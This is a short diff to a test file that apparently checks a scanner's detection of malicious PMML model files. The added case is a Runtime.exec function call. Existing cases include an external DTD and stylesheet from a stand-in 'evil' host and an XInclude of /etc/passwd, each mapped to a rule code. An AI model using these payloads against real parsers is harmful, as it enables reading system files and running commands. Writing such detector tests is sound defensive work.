@@ -277,6 +277,7 @@ PMML = '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/>{}</PMM
         ('<!DOCTYPE x SYSTEM "http://evil/x.dtd">' + PMML.format(""), "SL708"),
         (PMML.format('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'), "SL704"),
         (PMML.format("<Taxonomy><TableLocator/></Taxonomy>"), "SL704"),
+        (PMML.format('<Apply function="java.lang.Runtime.exec"><Constant>x</Constant></Apply>'), "SL710"),
         ('<?xml-stylesheet href="http://evil/x.xsl"?>' + PMML.format(""), "SL704"),
     ],
 )
